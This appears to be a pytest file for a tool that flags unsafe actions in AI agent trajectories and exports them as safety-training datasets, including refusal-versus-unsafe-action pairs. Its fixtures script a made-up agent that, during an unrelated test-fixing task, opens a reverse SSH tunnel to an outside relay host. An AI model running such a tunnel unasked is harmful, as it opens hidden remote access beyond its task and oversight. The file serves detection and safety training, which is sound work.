"""Safety-training exports of the sample run, loaded back with `datasets`."""
from __future__ import annotations

import json
from pathlib import Path

import pytest
from datasets import load_dataset, load_from_disk

from conftest import ROOT, sample_run, tool, traj
from safefilter.cli import main
from safefilter.export import ExportOptions, export_run
from safefilter.export.sampling import sample_benign



@pytest.fixture(scope="module")
def run_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    with pytest.MonkeyPatch.context() as mp:
        mp.chdir(ROOT)
        return sample_run(tmp_path_factory.mktemp("export") / "run")


def _records(run_dir: Path, kind: str) -> list[dict]:
    return [json.loads(line) for p in sorted((run_dir / kind).glob("*.jsonl")) for line in p.read_text().splitlines()]


def _load(folder: Path) -> list[dict]:
    files = {p.name.split("-")[0]: str(p) for p in (folder / "data").glob("*.parquet")}
    ds = load_dataset("parquet", data_files=files)
    return [dict(row, split=name) for name in ds for row in ds[name]]


def _export(run_dir: Path, fmt: str, out: Path, **options) -> list[dict]:
    export_run(run_dir, fmt, out, options=ExportOptions(**options))
    return _load(out)


def test_steps_one_row_per_action_labeled_as_the_run(run_dir, tmp_path):
    rows = _export(run_dir, "steps", tmp_path / "steps")
    manifest = json.loads((run_dir / "manifest.json").read_text())
    unsafe = {r["id"]: r["safety"] for r in _records(run_dir, "unsafe")}
    assert len({r["record_id"] for r in rows}) == manifest["counts"]["clean"] + manifest["counts"]["unsafe"]
    for rid, safety in unsafe.items():
        mine = [r for r in rows if r["record_id"] == rid]
        got = {c for r in mine for c in r["categories"]}
        assert got == set(safety["categories"]), rid  # every category of the record is on some step
        assert all(r["record_unsafe"] for r in mine)
    assert all(r["label"] == "safe" and not r["categories"] for r in rows if not r["record_unsafe"])
    # clean records are rescanned with the run's rules: a step the task asked for is safe but marked requested
    assert any(r["requested"] and r["evidence"] for r in rows if not r["record_unsafe"])
    tunnel = next(r for r in rows if r["record_id"] == "devops-00201" and r["label"] == "unsafe")
    assert tunnel["action"].startswith("ssh -f -N") and tunnel["categories"] == ["tunneling"]
    assert tunnel["evidence"][0]["rule_id"] == "tun-ssh-remote-forward"
    assert "Add retries to the flaky" in tunnel["context"] and "[str_replace_editor]" in tunnel["context"]
    # the card and dataset_info describe what was written
    info = json.loads((tmp_path / "steps" / "dataset_info.json").read_text())
    assert sum(s["num_examples"] for s in info["splits"].values()) == len(rows)
    assert load_dataset(str(tmp_path / "steps"))["train"].num_rows == sum(r["split"] == "train" for r in rows)


def test_steps_context_respects_the_budget(run_dir, tmp_path):
    rows = _export(run_dir, "steps", tmp_path / "steps", context_chars=300, output_chars=50)
    assert max(len(r["context"]) for r in rows) <= 300
    assert max(len(r["output"]) for r in rows) <= 53
    assert any("earlier actions left out" in r["context"] for r in rows)


def _text(content) -> str:
    if isinstance(content, list):
        return "\n".join(p["text"] if isinstance(p, dict) else p for p in content)
    return content or ""


def test_prefixes_end_right_before_the_first_unsafe_message(run_dir, tmp_path):
    rows = _export(run_dir, "prefixes", tmp_path / "dpo", chosen_template="I will not do that ({categories}).")
    unsafe = {r["id"]: r for r in _records(run_dir, "unsafe")}
    assert len(rows) == len(unsafe)
    for row in rows:
        record = unsafe[row["id"]]
        assert row["chosen"][0]["content"] == f"I will not do that ({', '.join(row['categories'])})."
        assert row["rejected"][0]["role"] == "assistant" and len(row["rejected"]) == 1
        counted = [f for f in record["safety"]["findings"] if not f["requested"]]
        if "messages" in record:  # chat: the prompt is the record's own messages, cut before the action
            assert len(row["prompt"]) == row["message_index"]
            assert [m["role"] for m in row["prompt"]] == [m["role"].lower() for m in record["messages"][:len(row["prompt"])]]
            assert [m["content"] for m in row["prompt"]] == [_text(m["content"]) for m in record["messages"][:len(row["prompt"])]]
            assert all(f["message_index"] >= row["message_index"] for f in counted)
        else:  # steps / SWE-agent: no earlier step carries a counted finding
            assert all(f["message_index"] >= row["message_index"] for f in counted)
        # `rejected` is the unsafe action alone: one call (no prose) or one fenced block, holding evidence
        rejected = row["rejected"][0]
        said = rejected["content"] + "".join(c["function"]["arguments"] for c in rejected["tool_calls"])
        assert (len(rejected["tool_calls"]) == 1 and rejected["content"] == "") or \
            (not rejected["tool_calls"] and rejected["content"].startswith("```"))
        first = [f for f in counted if f["message_index"] == row["message_index"] and not f.get("decoded_from")
                 and f["field"].split(".")[-1] not in ("observation", "content")]
        assert all(json.dumps(f["evidence"])[1:-1][:40] in said or f["evidence"][:40] in said for f in first), row["id"]
    tunnel = next(r for r in rows if r["id"] == "devops-00201")
    assert len(tunnel["prompt"]) == 6 and "-R 2222:localhost:22" in tunnel["rejected"][0]["tool_calls"][0]["function"]["arguments"]


def test_rejected_is_the_unsafe_call_not_the_whole_message(tmp_path, monkeypatch):
    """Prose and a benign call share the message with the tunnel: `rejected` keeps only the tunnel's
    call; a fenced block in text is `rejected` as that block; a `steps` record as its step's call."""
    monkeypatch.chdir(ROOT)
    mixed = traj({"role": "assistant", "content": "Let me check the tests, then open a relay.", "tool_calls": [
        {"id": "a", "type": "function", "function": {"name": "bash", "arguments": json.dumps({"command": "pytest -q"})}},
        {"id": "b", "type": "function", "function": {"name": "bash", "arguments": json.dumps(
            {"command": "ssh -N -R 9000:localhost:22 relay@198.51.100.40"})}}]},
        tool("3 passed", "a"), tool("", "b"), rid="mixed")
    fenced = traj({"role": "assistant", "content": "Running it:\n```bash\nssh -N -R 9000:localhost:22 "
                                                    "relay@198.51.100.40\n```\nDone."}, rid="fenced")
    steps = {"id": "steps", "task": "Fix the failing test", "steps": [
        {"thought": "look around", "action": "ls -la", "observation": "a.py"},
        {"thought": "open a relay", "action": "ssh -N -R 9000:localhost:22 relay@198.51.100.40", "observation": ""}]}
    (tmp_path / "in.jsonl").write_text("".join(json.dumps(r) + "\n" for r in (mixed, fenced, steps)))
    run = sample_run(tmp_path / "run", f"input={tmp_path / 'in.jsonl'}")
    rows = {r["id"]: r for r in _export(run, "prefixes", tmp_path / "dpo")}
    assert set(rows) == {"mixed", "fenced", "steps"}
    m = rows["mixed"]
    assert len(m["prompt"]) == 2 and m["prompt"][-1]["role"] == "user"  # ends right before the unsafe message
    assert m["rejected"] == [{"role": "assistant", "content": "", "tool_call_id": None, "tool_calls": [
        {"id": "b", "type": "function", "function": {"name": "bash", "arguments": json.dumps(
            {"command": "ssh -N -R 9000:localhost:22 relay@198.51.100.40"})}}]}]
    assert rows["fenced"]["rejected"][0]["content"] == "```bash\nssh -N -R 9000:localhost:22 relay@198.51.100.40\n```"
    assert rows["fenced"]["rejected"][0]["tool_calls"] == []
    s = rows["steps"]
    assert [x["role"] for x in s["prompt"]] == ["user", "assistant", "tool"]  # task, step 0 and its output
    assert s["rejected"][0]["content"] == "" and len(s["rejected"][0]["tool_calls"]) == 1
    assert "relay@198.51.100.40" in s["rejected"][0]["tool_calls"][0]["function"]["arguments"]


def test_trajectories_unsafe_and_optionally_clean(run_dir, tmp_path):
    manifest = json.loads((run_dir / "manifest.json").read_text())
    rows = _export(run_dir, "trajectories", tmp_path / "t1")
    assert len(rows) == manifest["counts"]["unsafe"] and all(r["label"] == "unsafe" and r["categories"] for r in rows)
    rows = _export(run_dir, "trajectories", tmp_path / "t2", include_clean=True)
    assert len(rows) == manifest["counts"]["unsafe"] + manifest["counts"]["clean"]
    assert sum(r["label"] == "safe" for r in rows) == manifest["counts"]["clean"]
    shapes = {r["format"] for r in rows}
    assert {"chat", "steps", "swe_agent"} <= shapes  # all three input shapes come through as messages


def test_splits_are_stable_across_runs_and_keep_trajectories_whole(run_dir, tmp_path, monkeypatch):
    monkeypatch.chdir(ROOT)
    second = sample_run(tmp_path / "run2")
    a = _export(run_dir, "steps", tmp_path / "a")
    b = _export(second, "steps", tmp_path / "b")
    assert sorted((r["id"], r["split"]) for r in a) == sorted((r["id"], r["split"]) for r in b)
    # two exports in folders of the same name load their own rows (datasets' cache must not mix them)
    export_run(run_dir, "steps", tmp_path / "x" / "steps", options=ExportOptions(benign_ratio=0.0))
    export_run(run_dir, "steps", tmp_path / "y" / "steps")
    sizes = [sum(len(d) for d in load_dataset(str(tmp_path / p / "steps")).values()) for p in ("x", "y")]
    assert sizes[1] == len(a) and sizes[0] == sum(r["label"] == "unsafe" for r in a)
    split_of = {}
    for r in a:
        assert split_of.setdefault(r["record_id"], r["split"]) == r["split"]  # one trajectory, one split
    assert len(set(split_of.values())) == 3


def test_benign_rows_sampled_at_the_ratio_by_tool():
    rows = [{"id": f"u{i}", "label": "unsafe", "tool": "bash"} for i in range(5)]
    rows += [{"id": f"b{i}", "label": "safe", "tool": "bash"} for i in range(90)]
    rows += [{"id": f"e{i}", "label": "safe", "tool": "editor"} for i in range(10)]
    kept = sample_benign(rows, 4.0)
    assert sum(r["label"] == "unsafe" for r in kept) == 5
    assert sum(r["tool"] == "bash" and r["label"] == "safe" for r in kept) == 18
    assert sum(r["tool"] == "editor" for r in kept) == 2
    assert [r["id"] for r in sample_benign(list(reversed(rows)), 4.0)] == [r["id"] for r in reversed(kept)]
    assert sample_benign(rows, None) == rows


def test_cli_export_and_load_from_disk(run_dir, tmp_path, capsys):
    assert main(["export", str(run_dir), "--format", "steps", "--output", str(tmp_path / "s"),
                 "--benign-ratio", "1", "--save-to-disk"]) == 0
    rows = _load(tmp_path / "s")
    unsafe_rows = sum(r["label"] == "unsafe" for r in rows)
    assert sum(r["label"] == "safe" for r in rows) == unsafe_rows
    assert sum(len(d) for d in load_from_disk(str(tmp_path / "s" / "arrow")).values()) == len(rows)
    assert "export:" in capsys.readouterr().out
    # a second export into the same folder is refused with one line
    assert main(["export", str(run_dir), "--format", "steps", "--output", str(tmp_path / "s")]) == 2
    assert "exists and is not empty" in capsys.readouterr().err
    assert main(["export", str(tmp_path), "--format", "steps", "--output", str(tmp_path / "x")]) == 2
    assert "not a finished safefilter run" in capsys.readouterr().err


def test_a_parquet_run_exports_the_same_records(run_dir, tmp_path, monkeypatch):
    """Parquet shards give rows nulls for other rows' columns and may hold a column as JSON text."""
    monkeypatch.chdir(ROOT)
    parquet = sample_run(tmp_path / "pq", "output_format=parquet")
    result = export_run(parquet, "trajectories", tmp_path / "t", options=ExportOptions(include_clean=True))
    assert not result.warnings
    rows = _load(tmp_path / "t")
    with_ids = {r["id"] for r in _records(run_dir, "unsafe")}
    assert {r["id"] for r in rows if r["label"] == "unsafe"} == with_ids
    assert len(rows) == len(_export(run_dir, "trajectories", tmp_path / "j", include_clean=True))
